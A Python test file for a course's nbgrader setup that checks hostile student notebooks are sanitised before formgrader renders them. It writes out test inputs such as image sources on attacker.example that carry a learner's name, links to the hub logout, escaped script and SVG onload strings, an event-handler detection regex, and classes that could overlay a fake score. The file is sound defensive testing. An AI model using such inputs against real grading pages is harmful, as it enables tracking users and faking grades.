"""A hostile hand-in rendered as formgrader renders it, with the course's nbgrader_config.py: no script of its own.

The browser tests (``tests/browser/test_formgrader_hostile.py``, the hub journey) show the payloads of
``tests/browser/hostile_handin.py`` running on the real pages before the defence and not after; this renders the
same notebook with nbconvert and nbgrader's 'formgrade' template in a second, with the course's configuration and
without it, so that the fast suite sees the configuration kept.
"""
from __future__ import annotations

import json
import re
from pathlib import Path

import nbformat
from nbconvert.exporters import HTMLExporter
from nbgrader.server_extensions.formgrader import handlers
from traitlets.config import Config
from traitlets.config.loader import PyFileConfigLoader

from browser import hostile_handin as hostile

REPO = Path(__file__).resolve().parents[1]
RELEASED = REPO / "exercises" / "ps2_math" / "ps2_math.ipynb"
HANDLER = re.compile(r"<[a-zA-Z][^<>]*\son[a-z]+\s*=")   # a tag with an event handler attribute


def render(nb: dict, course_config: bool) -> str:
    """``nb`` as formgrader's manual-grading page shows it (its template and resources; the course's config or none)."""
    config = PyFileConfigLoader("nbgrader_config.py", path=str(REPO)).load_config() if course_config else Config()
    config.HTMLExporter.template_name = "formgrade"
    config.HTMLExporter.extra_template_basedirs = [handlers.template_path]
    resources = {"base_url": "/user/instructor", "index": 0, "total": 1, "notebook_id": "ps2_math",
                 "submission_id": "s", "student": "attacker", "first_name": None, "last_name": None}
    html, _ = HTMLExporter(config=config).from_notebook_node(nbformat.reads(json.dumps(nb), as_version=4),
                                                              resources=resources)
    return html


def counts(html: str) -> dict:
    return {"event handlers": len(HANDLER.findall(html)), "scripts": html.count("<script"),
            "javascript: links": html.count('href="javascript:')}


def test_the_course_config_renders_a_hostile_hand_in_without_its_script():
    released = json.loads(RELEASED.read_text())
    hostile_nb = hostile.with_payloads(released)
    answer = next(c for c in hostile_nb["cells"] if c["metadata"].get("nbgrader", {}).get("grade_id") == "q1_answer")
    answer["outputs"] = hostile.made_outputs()
    answer["execution_count"] = 1
    own = counts(render(released, course_config=True))   # formgrader's own page: its scripts and onclick buttons
    undefended = counts(render(hostile_nb, course_config=False))
    assert all(undefended[k] > own[k] for k in own), (undefended, own)   # the payloads are live without the config
    html = render(hostile_nb, course_config=True)
    assert counts(html) == own, (counts(html), own)
    assert hostile.ANSWER_TEXT in html and "<p>" in html
    assert "&lt;svg onload=" in html and "&lt;script&gt;" in html   # what is not kept is shown as text


def test_an_image_loads_only_from_inside_the_page():
    from pagedkv_lib.course.instructor.reporting.safe_html import clean_html
    png = "data:image/png;base64,iVBORw0KGgo="
    for src in ("https://attacker.example/pixel.png?who=learner2", "http://attacker.example/p.gif",
                "//attacker.example/p.gif", "../../../hub/logout", "/hub/logout", "files/p.png",
                "data:image/svg+xml;base64,PHN2Zz4=", " HTTPS://attacker.example/p.png"):
        html = clean_html(f'<p><img src="{src}" alt="my plot"></p>')
        assert "src=" not in html and 'alt="my plot"' in html, (src, html)
    assert f'src="{png}"' in clean_html(f'<img src="{png}" alt="a plot">')


def test_a_class_stays_only_if_it_highlights_code():
    """A learner's class could dress their markup as formgrader's own UI: formgrader's Bootstrap 3 makes ``affix`` and
    ``modal-backdrop`` fixed layers (``position: fixed``), where a fake score box could sit over the real one."""
    from nbconvert.filters.markdown import markdown2html
    from pagedkv_lib.course.instructor.reporting.safe_html import clean_html, clean_markdown_html
    for classes in ("affix", "modal-backdrop in", "modal fade in", "navbar-fixed-top", "btn btn-primary", "hidden",
                    "highlight modal-backdrop", "k alert-success"):
        html = clean_html(f'<div class="{classes}"><p>Score: 10 / 10</p></div>')
        assert "class=" not in html and "Score: 10 / 10" in html, (classes, html)
    code = markdown2html("# Answer\n\n```python\nx = 1 + 2  # two\nprint('s')\n```")
    cleaned = clean_markdown_html(code)
    for kept in ('class="highlight"', 'class="n"', 'class="mi"', 'class="c1"', 'class="anchor-link"'):
        assert kept in code and kept in cleaned, kept       # highlighted code keeps its colours
    assert 'class="highlight hl-ipython3"' in clean_html('<div class="highlight hl-ipython3"><pre>x</pre></div>')
